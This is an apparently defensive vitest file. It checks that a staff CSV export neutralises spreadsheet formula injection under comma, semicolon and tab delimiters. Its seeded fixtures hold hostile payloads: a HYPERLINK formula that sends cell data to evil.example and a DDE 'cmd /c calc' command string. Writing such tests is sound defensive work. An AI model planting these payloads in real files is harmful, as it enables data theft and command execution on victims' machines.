import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { TipRecord } from '#core/tips/tip-record';
import { type StaffStack, startStaffStack } from '../../support/staff-client';
import { batchWriteTips, seedTip } from '../../support/staff-seed';

/**
 * Cells as a spreadsheet reads them with `delimiter`: quoted cells as RFC 4180 says (a quote
 * opens a cell only at its start; after the closing quote, text runs on to the delimiter, as
 * Excel and LibreOffice read it), rows ending at a line break outside quotes.
 */
function readCells(text: string, delimiter: string): string[] {
  const cells: string[] = [];
  let cell = '';
  let quoted = false;
  let atStart = true;
  for (let i = 0; i < text.length; i++) {
    const c = text[i] as string;
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') {
        cell += '"';
        i++;
      } else if (c === '"') quoted = false;
      else cell += c;
    } else if (c === '"' && atStart) {
      quoted = true;
      atStart = false;
    } else if (c === delimiter || c === '\n' || c === '\r') {
      cells.push(cell);
      cell = '';
      atStart = true;
    } else {
      cell += c;
      atStart = false;
    }
  }
  cells.push(cell);
  return cells;
}

/** Cells as a naive splitter makes them: every delimiter and line break splits, quotes are text. */
const splitCells = (text: string, delimiter: string) =>
  text.split(/\r\n|\r|\n/).flatMap((line) => line.split(delimiter));

const FORMULA_START = /^[=+\-@\t\r]/;

describe('GET /tips/export: no cell starts a formula, whichever delimiter the spreadsheet uses', () => {
  let s: StaffStack;
  const hostile: TipRecord[] = [
    seedTip({
      createdAt: new Date('2026-11-26T10:00:00Z'),
      topic: 'americas',
      subject: 'Shipping news;=1+1;',
      message: 'See the figures;=HYPERLINK("http://evil.example/?"&A1;"more")',
    }),
    seedTip({
      createdAt: new Date('2026-11-26T10:01:00Z'),
      topic: 'americas',
      subject: 'tab\t@SUM(A1)\tend',
      message: 'first line\n=2+2 on the second\r\n-3 on the third,+4 after a comma\t\t=5 after tabs',
    }),
    seedTip({
      createdAt: new Date('2026-11-26T10:03:00Z'),
      topic: 'americas',
      subject: 'Spaces first; =1+1, \u00a0+2',
      message: 'then a line\n  @SUM(A1)\tand a tab;  "=3"',
    }),
    seedTip({
      createdAt: new Date('2026-11-26T10:02:00Z'),
      topic: 'americas',
      subject: ',\t=1 a comma, a tab, then a formula',
      message: '"quoted";"=cmd|\'/c calc\'!A0"',
    }),
  ];

  beforeAll(async () => {
    s = await startStaffStack('staff-export-delim');
    await batchWriteTips(s.doc, s.tableName, hostile);
  });
  afterAll(async () => s?.stop());

  it.each([
    ['comma', ','],
    ['semicolon', ';'],
    ['tab', '\t'],
  ])('parsed with a %s delimiter', async (_, delimiter) => {
    const res = await fetch(`${s.stack.apiUrl}/tips/export?format=csv&topic=americas`, { headers: s.auth });
    expect(res.status).toBe(200);
    const text = await res.text();

    const read = readCells(text, delimiter);
    const split = splitCells(text, delimiter).map((c) => c.replace(/^"/, ''));
    expect(read.length).toBeGreaterThan(hostile.length);
    // LibreOffice's "Trim spaces" and other readers drop the spaces before a cell's text.
    const trimmed = [...read, ...split].map((c) => c.replace(/^[\s"]+/, (m) => m.replace(/[^"]/g, '')));
    for (const cell of [...read, ...split, ...trimmed])
      expect(cell, JSON.stringify(cell)).not.toMatch(FORMULA_START);
  });

  it('keeps the text readable: an apostrophe before each neutralised character, nothing dropped', async () => {
    const res = await fetch(`${s.stack.apiUrl}/tips/export?format=csv&topic=americas`, { headers: s.auth });
    const text = await res.text();
    expect(text).toContain(`"Shipping news;'=1+1;"`);
    expect(text).toContain(
      `"first line\n'=2+2 on the second\r\n'-3 on the third,'+4 after a comma\t'\t'=5 after tabs"`,
    );
  });
});
